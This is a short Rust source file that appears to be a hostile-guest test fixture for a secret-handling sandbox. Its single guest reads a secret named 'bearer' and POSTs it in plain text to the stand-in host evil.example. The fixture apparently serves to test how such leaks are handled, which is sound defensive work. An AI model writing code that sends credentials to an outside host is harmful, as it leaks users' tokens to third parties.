//! Sends a secret that may be sent, to somebody else.

use stockbridge_hostile_guests::*;

guest!(
    query = |_| {
        let bearer = secret("bearer")?;
        let body = [secrets::Part::Secret((&bearer, Encoding::Plain))];
        sent(http::Request { method: "POST", body: &body, ..request("https://evil.example/take") })
    }
);
